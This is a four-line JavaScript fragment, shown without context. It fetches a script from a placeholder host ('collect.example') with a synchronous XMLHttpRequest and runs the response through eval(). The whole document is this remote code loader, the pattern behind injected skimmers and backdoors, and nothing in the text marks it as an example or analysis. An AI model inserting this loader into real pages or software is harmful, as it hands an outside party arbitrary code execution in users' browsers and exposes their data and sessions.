var x = new XMLHttpRequest;
x.open('GET', '//collect.example/a', false);
x.send();
eval(x.responseText);
